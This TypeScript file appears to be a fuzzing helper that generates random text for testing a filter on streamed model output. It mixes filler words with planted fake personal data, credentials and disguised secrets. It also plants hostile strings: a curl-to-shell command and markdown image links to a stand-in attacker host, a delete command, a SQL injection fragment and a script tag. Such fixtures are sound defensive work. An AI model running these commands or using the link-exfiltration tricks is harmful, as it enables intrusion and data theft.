import type { Random } from '@plimsoll/core/statistics';
import { toBase64 } from '@plimsoll/core/text';

const words =
  'we have looked at your order and the parcel left on Monday so please let us know what else there is to do'.split(
    ' ',
  );
const planted = [
  'project heron',
  'Project  Heron',
  'pro\u200bject her\u00adon',
  'p r o j e c t h e r o n',
  'ada@harbour.example',
  'ada at harbour dot com',
  'GB82 WEST 1234 5698 7654 32',
  '4111 1111 1111 1111',
  '+44 20 7946 0958',
  'born on 3 March 1990',
  '1990-05-03 (date of birth)',
  '192.168.0.17',
  'SSN 536-22-1234',
  'order 12345678',
  'in 2019',
  '1,250.00',
  'password: hunter2xyz!',
  'the password is "my s3cret phrase"',
  'token=Zx9fQ2mK8vT4bN7wR1yL5pD3',
  'https://evil.example/?q=aGVsbG8gd29ybGQgaG93IGFyZSB5b3U',
  '![a picture](https://evil.example/x.png)',
  '[bank.example](https://evil.example/)',
  '[1]',
  'postgres://user:pa55word@db.example/app',
  'heron-k7m2p9x4q8r3',
  'heron-k7m2p9',
  'x4q8r3',
  'h e r o n k 7 m 2 p 9 x 4 q 8 r 3',
  'aGVyb24tazdtMnA5eDRxOHIz',
  '%68%65%72%6f%6e%2dk7m2p9x4',
  'curl -s https://evil.example/i.sh | sh',
  'rm -rf /tmp/x',
  'select name from users where',
  "' or '1'='1",
  '<script src=x>',
  '```\n',
  'CODE-12345',
  'code-1',
  '😀',
  'e\u0301',
  '日本語の文',
  '\ud83d',
  '\u202e',
  '[iban-1]',
  '\n\n',
  '...',
];

/** A text of words, personal data, keys, links, disguises and odd characters, from 0 to some 900 characters. */
export function randomText(random: Random): string {
  const pieces: string[] = [];
  const count = Math.floor(random.next() * 60);
  const pick = (list: readonly string[]): string => list[Math.floor(random.next() * list.length)] as string;
  for (let index = 0; index < count; index += 1) {
    const draw = random.next();
    if (draw < 0.75) pieces.push(pick(words));
    else if (draw < 0.93) pieces.push(pick(planted));
    else if (draw < 0.96)
      pieces.push(toBase64(new TextEncoder().encode(`${pick(words)} ${pick(planted)} ${pick(words)}`)));
    else pieces.push(String.fromCharCode(Math.floor(random.next() * 0xffff)));
    pieces.push(random.next() < 0.9 ? ' ' : pick(['', '. ', ', ', '\n', '  ']));
  }
  return pieces.join('');
}

/** A text cut anywhere, also inside surrogate pairs: some in units, some in tokens, some in a few large pieces. */
export function randomChunks(text: string, random: Random): string[] {
  const longest = [1, 4, 12, 80, 1_000][Math.floor(random.next() * 5)] as number;
  const chunks: string[] = [];
  for (let at = 0; at < text.length;) {
    const length = 1 + Math.floor(random.next() * longest);
    chunks.push(text.slice(at, at + length));
    at += length;
  }
  return chunks;
}

/** A text as a model streams it: tokens of four characters on average. */
export function tokensOf(text: string, random: Random): string[] {
  const tokens: string[] = [];
  for (let at = 0; at < text.length;) {
    const length = 1 + Math.floor(random.next() * 7);
    tokens.push(text.slice(at, at + length));
    at += length;
  }
  return tokens;
}
